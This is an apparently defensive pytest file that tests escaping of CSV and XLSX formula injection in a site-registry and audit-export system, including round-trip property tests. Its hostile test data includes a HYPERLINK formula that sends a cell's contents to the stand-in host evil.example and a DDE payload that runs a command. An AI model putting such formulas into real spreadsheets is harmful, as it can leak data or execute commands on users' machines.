"""Issue 9 item 10: exports never carry a live formula, and export → import is the identity.

XLSX cells are text (no ``<f>`` element, whatever a name starts with); CSV cells starting with a formula
trigger (``= + - @``, tab, carriage return) are escaped with ``'`` and reading undoes exactly that.
The registry round trip runs on a real database (SQLite, and PostgreSQL when configured) over
hypothesis-generated names; the audit page's exports are checked on hostile cells.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from dashboard.audit_data import to_csv, to_xlsx
from db.hunan import seed_nodes
from db.models import Column, ColumnKind, Site, SiteLevel
from db.registry_io import export_columns, export_sites, import_registry
from db.registry_rows import REFUSED_CHARS
from db.tabular import (
    FORMULA_TRIGGERS,
    TableFileError,
    escape_csv_cell,
    read_table,
    unescape_csv_cell,
    write_table,
    xlsx_unwritable,
)
from layouts.frames import AuditRow

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\r=1", "'=1", "'", "''x", "＝1+1",
           "'0731", "-", "a=b", "长沙市人民政府门户网站"]


def _stripped(value: str) -> bool:
    """What the registry can hold: import strips each cell (db.tabular._cell)."""
    return value == value.strip().strip("\u3000\xa0").strip()


# Names as the registry can hold them, weighted towards the cells spreadsheets would run.
_prefix = st.sampled_from([*sorted(FORMULA_TRIGGERS - {"\t", "\r"}), "'", "''", "'=", "'\t", "=\r\n", "@"])
NAMES = st.one_of(
    st.text(min_size=1, max_size=128),
    st.builds(lambda p, t: (p + t)[:128], _prefix, st.text(max_size=100)),
    st.sampled_from(HOSTILE),
).filter(lambda s: bool(s) and not REFUSED_CHARS.search(s) and _stripped(s))  # the registry refuses control chars


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_escaping_neutralises_and_inverts(value: str) -> None:
    cell = escape_csv_cell(value)
    assert cell[:1] not in FORMULA_TRIGGERS
    assert unescape_csv_cell(cell) == value


@given(st.text())
def test_unescape_inverts_escape_for_every_text(value: str) -> None:
    assert unescape_csv_cell(escape_csv_cell(value)) == value
    assert escape_csv_cell(value)[:1] not in FORMULA_TRIGGERS


def _formulas(path: Path) -> list[bytes]:
    with zipfile.ZipFile(path) as z:
        return [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_table_files_carry_no_formula(tmp_path: Path) -> None:
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"t.{suffix}"
        write_table(path, ["name"], [[v] for v in HOSTILE])
        assert read_table(path).rows == [(i, [v.strip()]) for i, v in enumerate(HOSTILE, start=2)]
    assert _formulas(tmp_path / "t.xlsx") == []
    wb = load_workbook(tmp_path / "t.xlsx")  # not data_only: a formula would come back as "=…" with type f
    assert {c.data_type for row in wb.active.iter_rows() for c in row} == {"s"}
    raw = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(raw, newline=""))][1:]
    assert not [c for c in cells if c[:1] in FORMULA_TRIGGERS]
    assert cells[0] == "'" + HYPERLINK and cells[-1] == "长沙市人民政府门户网站"


def test_xlsx_refuses_what_it_cannot_hold_and_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    with pytest.raises(TableFileError, match="第 3 行 name：含有 Excel 文件无法保存的控制字符"):
        write_table(path, ["name"], [["ok"], ["bell\x07"]])
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def factory(migrated_db: tuple[str, sessionmaker[Session]]) -> Iterator[sessionmaker[Session]]:
    _, fac = migrated_db
    with fac.begin() as s:
        seed_nodes(s)
        for i in range(3):
            site = Site(code=f"430100000{i}", name=f"站点{i}", url=f"https://s{i}.example.gov.cn/",
                        level=SiteLevel.CITY_DEPARTMENT, node_code="430100")
            s.add(site)
            s.flush()
            s.add(Column(site_id=site.id, name=f"栏目{i}", kind=ColumnKind.NEWS, url=f"https://s{i}.example.gov.cn/n/"))
    yield fac


def _round_trip(fac: sessionmaker[Session], folder: Path, suffix: str, names: list[str]) -> None:
    with fac.begin() as s:
        for site, name in zip(s.scalars(select(Site).order_by(Site.code)), names, strict=True):
            site.name = name
            site.organizer = name
            site.columns[0].name = name
    sites, columns = folder / f"sites.{suffix}", folder / f"columns.{suffix}"
    with fac() as s:
        export_sites(s, sites)
        export_columns(s, columns)
    with fac.begin() as s:  # forget every name, then read them back from the files
        for site in s.scalars(select(Site)):
            site.name, site.organizer, site.columns[0].name = "x", "x", "x"
    with fac.begin() as s:
        s.execute(Column.__table__.delete())
    with fac.begin() as s:
        import_registry(s, sites=sites, columns=columns)
    with fac() as s:
        got = [(x.name, x.organizer, [c.name for c in x.columns]) for x in s.scalars(select(Site).order_by(Site.code))]
    assert got == [(n, n, [n]) for n in names]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(NAMES, min_size=3, max_size=3, unique=True))
def test_registry_csv_export_import_is_the_identity(factory: sessionmaker[Session],
                                                    tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    _round_trip(factory, tmp_path_factory.mktemp("csv"), "csv", names)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(NAMES.filter(lambda s: not xlsx_unwritable(s)), min_size=3, max_size=3, unique=True))
def test_registry_xlsx_export_import_is_the_identity(
        factory: sessionmaker[Session], tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    _round_trip(factory, tmp_path_factory.mktemp("xlsx"), "xlsx", names)


def test_the_issues_hyperlink_site_round_trips_through_xlsx(factory: sessionmaker[Session], tmp_path: Path) -> None:
    _round_trip(factory, tmp_path, "xlsx", [HYPERLINK, "@SUM(1+1)", "-2+3"])
    assert _formulas(tmp_path / "sites.xlsx") == [] and _formulas(tmp_path / "columns.xlsx") == []


def _audit_row(text: str) -> AuditRow:
    return AuditRow(id=1, at="2026-11-27 16:00:00", actor=text, action="其他操作", action_code="x.y",
                    object_type="告警", object_id=text, region="长沙市", remote_addr="127.0.0.1", summary=text)


def test_audit_exports_carry_no_formula(tmp_path: Path) -> None:
    tz = ZoneInfo("Asia/Shanghai")
    found = [_audit_row(v) for v in [*HOSTILE, "bell\x07 in a note"]]
    table = list(csv.reader(io.StringIO(to_csv(found, tz).decode("utf-8-sig"), newline="")))
    assert [unescape_csv_cell(r[7]) for r in table[1:]] == [r.summary for r in found]
    assert not [c for r in table for c in r if c[:1] in FORMULA_TRIGGERS]
    path = tmp_path / "audit.xlsx"
    path.write_bytes(to_xlsx(found, tz))
    assert _formulas(path) == []
    ws = load_workbook(path).active
    assert [r[7] for r in ws.iter_rows(min_row=2, values_only=True)] == [*HOSTILE, "bell\ufffd in a note"]
    assert {c.data_type for row in ws.iter_rows(min_row=2) for c in row} == {"s"}
